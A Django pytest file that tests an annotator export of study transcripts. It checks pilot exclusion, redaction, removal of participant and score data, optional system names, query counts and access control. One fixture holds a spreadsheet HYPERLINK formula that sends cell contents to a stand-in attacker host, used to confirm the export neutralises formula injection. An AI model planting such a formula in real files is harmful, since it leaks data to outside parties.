"""The annotator package (docs/design/criterion.md §13.2): the study's non-pilot transcripts
and nothing of the SHS; system names only when the coordinator asks for them."""

import io
import json
import re
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from scoring.instruments.shs import ITEM_KEYS
from scoring.scores.engine import SCORE_COLUMNS
from surveys.models import LLMSystem, Transcript, Turn
from tests.criterion.annotation_data import packaged_codes, pilot_codes, study_with_transcripts
from tests.exports.transcript_factory import SYSTEM_PROMPT, redact

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def package(client, study, fmt, *, names=False):
    params = {"format": fmt} | ({"include_system_names": "on"} if names else {})
    return client.get(reverse("criterion:annotation_package", args=[study.slug]), params)


def jsonl_records(response) -> list[dict]:
    return [json.loads(line) for line in response.content.decode("utf-8").splitlines()]


def xlsx_rows(response) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return list(sheet.iter_rows(values_only=True))


def xlsx_text(response, *, properties: bool = True) -> str:
    """The workbook's parts as text: its sheets, shared strings and (unless told
    not to) its document properties, which carry the day the file was made."""
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = [n for n in archive.namelist() if properties or not n.startswith("docProps/")]
        return "".join(archive.read(name).decode("utf-8") for name in names)


@pytest.fixture
def studied(personas, study_a):
    data = study_with_transcripts(study_a)
    turn = Turn.objects.filter(
        transcript__interaction__session__study=study_a, role=Turn.Role.ASSISTANT
    ).first()
    redact(turn, "[redacted]", by=personas["coordinator_a"])
    formula_turn = Turn.objects.filter(
        transcript__interaction__session__study=study_a, role=Turn.Role.USER
    ).last()
    formula_turn.text = FORMULA
    formula_turn.save(update_fields=["text"])
    return data


def test_jsonl_holds_the_non_pilot_transcripts_and_their_turns(client_for, studied, study_a):
    # given a study with transcripts, a pilot session and a redacted turn
    # when the coordinator downloads the JSONL package without system names
    response = package(client_for("coordinator_a"), study_a, "jsonl")

    # then every non-pilot transcript is one line, in transcript_id order, no pilot's
    assert response.status_code == 200
    records = jsonl_records(response)
    codes = [record["transcript_id"] for record in records]
    assert codes == sorted(packaged_codes(study_a)) and len(codes) > 4
    assert not set(codes) & pilot_codes(study_a)
    for record in records:
        assert set(record) == {"transcript_id", "language", "turns"}
        stored = Transcript.objects.get(code=record["transcript_id"])
        assert record["language"] == stored.interaction.session.language
        expected = [
            {"position": t.position, "role": t.role, "text": t.text}
            for t in stored.turns.exclude(role=Turn.Role.SYSTEM).order_by("position")
        ]
        assert record["turns"] == expected
    turns = [turn for record in records for turn in record["turns"]]
    assert {"position": 1, "role": "system", "text": SYSTEM_PROMPT} not in turns
    assert all(turn["role"] != "system" for turn in turns)
    assert any(turn["role"] == "error" and turn["text"] == "" for turn in turns)
    assert any(turn["text"] == "[redacted]" for turn in turns)


@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
def test_package_holds_nothing_of_the_shs_or_the_participant(client_for, studied, study_a, fmt):
    response = package(client_for("coordinator_a"), study_a, fmt)
    text = response.content.decode("utf-8") if fmt == "jsonl" else xlsx_text(response)

    # no participant code, session token, experimenter name or e-mail ...
    leaked = [secret for secret in studied.secrets if secret and secret in text]
    assert leaked == []
    # ... no system name, no date, no SHS column, no answer or score
    systems = LLMSystem.objects.filter(study=study_a).values_list("name", flat=True)
    assert not [name for name in systems if name in text]
    content = text if fmt == "jsonl" else xlsx_text(response, properties=False)
    assert not re.search(r"\d{4}-\d{2}-\d{2}", content)
    if fmt == "jsonl":
        keys = {key for record in jsonl_records(response) for key in record}
    else:
        keys = set(xlsx_rows(response)[0])
    assert keys.isdisjoint({*ITEM_KEYS, *SCORE_COLUMNS, "session_id", "participant_id"})
    assert keys.isdisjoint({"evaluation_id", "block", "date", "system", "administrator"})


@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
def test_system_names_only_when_ticked(client_for, studied, study_a, fmt):
    client = client_for("coordinator_a")
    blind = package(client, study_a, fmt)
    named = package(client, study_a, fmt, names=True)

    systems = dict(
        Transcript.objects.filter(interaction__session__study=study_a).values_list(
            "code", "interaction__system__name"
        )
    )
    if fmt == "jsonl":
        assert all("system" not in record for record in jsonl_records(blind))
        got = {r["transcript_id"]: r["system"] for r in jsonl_records(named)}
    else:
        assert "system" not in xlsx_rows(blind)[0]
        header, *rows = xlsx_rows(named)
        got = {row[0]: row[header.index("system")] for row in rows}
    assert got == {code: systems[code] for code in packaged_codes(study_a)}


def test_xlsx_has_one_row_per_turn_and_formulas_as_text(client_for, studied, study_a):
    response = package(client_for("coordinator_a"), study_a, "xlsx")

    header, *rows = xlsx_rows(response)
    assert header == ("transcript_id", "language", "position", "role", "text")
    turns = Turn.objects.filter(transcript__code__in=packaged_codes(study_a)).exclude(
        role=Turn.Role.SYSTEM
    )
    assert len(rows) == turns.count()
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    risky = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == FORMULA]
    assert len(risky) == 1
    assert risky[0].data_type == "s" and risky[0].quotePrefix


def queries_of_package(client, study, fmt) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = package(client, study, fmt, names=True)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
def test_query_count_does_not_grow_with_transcripts(client_for, personas, study_a, study_b, fmt):
    from surveys.models import StudyMembership

    study_with_transcripts(study_a, sessions=1, seed=1)
    study_with_transcripts(study_b, sessions=12, seed=2, tag="b")
    StudyMembership.objects.create(
        user=personas["coordinator_a"], study=study_b, role=StudyMembership.Role.COORDINATOR
    )
    client = client_for("coordinator_a")
    assert len(packaged_codes(study_b)) > 4 * len(packaged_codes(study_a))

    assert queries_of_package(client, study_a, fmt) == queries_of_package(client, study_b, fmt)


@pytest.mark.parametrize("persona", ["experimenter_a", "outsider", "coordinator_b"])
def test_package_is_the_coordinators_only(client_for, studied, study_a, persona):
    response = package(client_for(persona), study_a, "jsonl")
    assert response.status_code == 404


def test_anonymous_is_sent_to_log_in(client_for, studied, study_a):
    response = package(client_for("anonymous"), study_a, "jsonl")
    assert response.status_code == 302 and "login" in response["Location"]
